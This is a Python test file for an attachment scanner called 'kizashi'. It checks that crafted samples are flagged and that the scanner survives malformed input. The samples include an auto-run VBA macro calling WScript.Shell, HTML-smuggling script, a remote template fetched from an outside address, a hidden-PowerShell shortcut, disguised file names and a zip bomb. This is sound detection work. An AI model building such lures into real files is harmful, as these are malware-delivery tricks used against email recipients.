"""What a file holds is told without running it, and no file ends the reader."""

from __future__ import annotations

import gzip
import io
import sys
import tarfile
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kizashi import attachments
from kizashi.attachments import judge, look
from tests.attachments.crafted import (
    STUB,
    compound,
    disk,
    document,
    macro,
    rar5,
    shortcut,
    zipped,
)

CLOSES = 'Sub Document_Close()\r\nCreateObject("WScript.Shell").Run "x"\r\nEnd Sub\r\n'
SMUGGLES = (
    b"<html><script>var b=new Blob([atob('" + b"A" * 5000 + b"')]);a.download='x.zip';a.click()"
    b"</script></html>"
)
REMOTE = (
    b'<Relationships><Relationship Type="x/attachedTemplate" '
    b'Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'
)


def kinds(name: str, content: bytes) -> set[str]:
    """Findings without the names of the files."""
    return {finding.split(":")[0] for finding in look(name, content).findings}


@pytest.mark.parametrize(
    ("name", "content", "wanted"),
    [
        ("a.exe", STUB, {"program"}),
        ("setup.scr", STUB + b"\0" * 5000 + b"Rar!\x1a\x07",
         {"program", "self-extracting archive"}),
        ("report.pdf", STUB, {"program", "program under a document's name"}),
        ("invoice.pdf.exe", STUB, {"program", "double ending"}),
        ("cod\u202efdp.exe", STUB, {"program", "name turned right to left"}),
        ("a.pdf" + " " * 60 + ".exe", STUB,
         {"program", "double ending", "ending pushed out of sight"}),
        ("open.lnk", shortcut("/c powershell -w hidden"),
         {"shortcut", "shortcut that starts an interpreter"}),
        ("disc.img", disk(["RUN.LNK;1", "A.TXT;1"]), {"disk image", "program in an archive"}),
        ("a.js", b"WScript.Echo(1)", {"script"}),
        ("page.html", SMUGGLES, {"page that rebuilds a file"}),
        ("login.htm", b"<html><form><input type=password></form>",
         {"page that asks for a password"}),
        ("a.pdf", b"<html><script>1</script></html>", {"other content than its name says"}),
        ("a.doc", compound({"_VBA_PROJECT": b"", "M": macro(CLOSES)}),
         {"macro", "macro that runs by itself", "macro that starts programs or fetches"}),
        ("a.docm", document({"word/vbaProject.bin": compound({"VBA": b"", "M": macro("Sub A()")})}),
         {"macro"}),
        ("a.xls", compound({"\x01Ole10Native": b"\0\0a.exe\0" + STUB}),
         {"embedded object", "embedded program"}),
        ("a.xlsx", document({"xl/embeddings/oleObject1.bin":
                             compound({"\x01Ole10Native": b"\0\0a.exe\0" + STUB})}),
         {"embedded object", "embedded program"}),
        ("a.xlsx", document({"xl/embeddings/a.bin": STUB}), {"program"}),
        ("a.xlsm", document({"xl/vbaProject.bin":
                             compound({"VBA": b"", "M": macro(CLOSES)})}),
         {"macro", "macro that runs by itself", "macro that starts programs or fetches"}),
        ("a.docx", document({"word/_rels/settings.xml.rels": REMOTE}),
         {"part fetched from elsewhere"}),
        ("a.docx", compound({"EncryptedPackage": b"x"}), {"locked document"}),
        ("a.rtf", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 4d5a546869732070726f6772616d}}}",
         {"embedded object", "embedded program", "part fetched from elsewhere"}),
        ("a.zip", zipped({"x.txt": b"x"}, locked=True), {"locked archive"}),
        ("a.zip", zipped({"setup.exe": STUB + b"\0" * 5000 + b"Rar!\x1a\x07"}),
         {"program", "program in an archive", "self-extracting archive"}),
        ("a.zip", zipped({"invoice.pdf.exe": STUB}),
         {"program", "program in an archive", "double ending"}),
        ("a.zip", zipped({"cod\u202efdp.exe": STUB}),
         {"program", "program in an archive", "name turned right to left"}),
        ("a.zip", zipped({"open.lnk": shortcut("/c powershell -w hidden")}),
         {"program in an archive", "shortcut", "shortcut that starts an interpreter"}),
        ("a.zip", zipped({"disc.iso": disk(["RUN.EXE;1"])}),
         {"disk image", "program in an archive"}),
        ("a.zip", zipped({"a.pdf.exe": b"x"}, locked=True),
         {"locked archive", "double ending", "program in an archive"}),
        ("a.vhdx", b"vhdxfile" + b"\0" * 600, {"disk image"}),
        ("a.svg", SMUGGLES.replace(b"html", b"svg"), {"page that rebuilds a file"}),
        ("a.rar", rar5("run.exe"), {"program in an archive"}),
        ("a.rar", rar5("", locked=True), {"locked archive"}),
        ("a.zip", zipped({"b.zip": zipped({"c.js": b"1"})}), {"program in an archive", "script"}),
        ("a.txt.gz", gzip.compress(STUB), {"program", "program under a document's name"}),
    ],
)  # fmt: skip
def test_what_a_file_holds_is_told(name: str, content: bytes, wanted: set[str]) -> None:
    assert kinds(name, content) == wanted


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj"),
        ("a.docx", document({"word/document.xml": b"<w:t>hello</w:t>"})),
        ("a.xls", compound({"Workbook": b"\x09\x08\x10\0" + b"\0" * 16})),
        ("a.zip", zipped({"report.docx": document({"word/document.xml": b"<w:t>x</w:t>"})})),
        ("a.html", b"<html><script>document.title='x'</script><p>news</p></html>"),
        ("a.txt", b"plain text"),
        ("a.csv", b"a,b\n1,2\n"),
        (None, b""),
    ],
)
def test_an_ordinary_file_has_no_finding(name: str | None, content: bytes) -> None:
    assert look(name, content).findings == ()


def test_names_in_an_archive_are_read_as_japanese_windows_wrote_them() -> None:
    raw = zipped({"aaaa.exe": STUB})
    written = "請求".encode("cp932")
    crafted = raw.replace(b"aaaa", written)
    found = look("a.zip", crafted)
    assert found.members == ("請求.exe",)
    assert "program in an archive: 請求.exe" in found.findings


def test_a_tape_archive_is_looked_into() -> None:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("x/run.vbs")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"1"))
    assert kinds("a.tar", out.getvalue()) == {"program in an archive", "script"}


def test_an_archive_that_swells_ends_at_a_limit_and_says_so() -> None:
    bomb = zipped({f"{n}": b"\0" * 9_000_000 for n in range(20)})
    began = time.monotonic()
    assert look("a.zip", bomb).opened is False
    assert time.monotonic() - began < 4
    assert look("after.exe", STUB).findings == ("program: after.exe",)


def test_the_child_that_dies_is_started_again() -> None:
    dead = attachments._child()._running()
    dead.kill()
    dead.wait()
    assert look("two.exe", STUB + b"2").findings == ("program: two.exe",)
    assert attachments._child()._running().pid != dead.pid


@pytest.mark.skipif(
    sys.platform != "linux", reason="the limits of another process are read in Linux's /proc"
)
def test_the_child_may_neither_write_nor_take_much_memory() -> None:
    look("x.exe", STUB + b"3")
    told = Path(f"/proc/{attachments._child()._running().pid}/limits")
    lines = [" ".join(line.split()) for line in told.read_text("utf-8").splitlines()]
    assert "Max file size 0 0 bytes" in lines
    assert "Max address space 201326592 201326592 bytes" in lines


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"Rar!\x1a\x07\x00", b"MSCF",
            b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c", b"%PDF-", b"{\\rtf", b"MZ", b"<html>",
            b"\x1f\x8b", b"",
        ]
    ),
    st.binary(max_size=2000),
)  # fmt: skip
def test_no_bytes_end_in_an_exception(magic: bytes, rest: bytes) -> None:
    judge.look("a.bin", magic + rest, judge.Found())


@settings(max_examples=200, deadline=None)
@given(st.integers(0, 9000), st.binary(min_size=1, max_size=40))
def test_no_damage_of_a_document_ends_in_an_exception(place: int, damage: bytes) -> None:
    whole = compound({"_VBA_PROJECT": b"", "M": macro(CLOSES), "\x01Ole10Native": STUB})
    judge.look("a.doc", whole[:place] + damage + whole[place + len(damage) :], judge.Found())
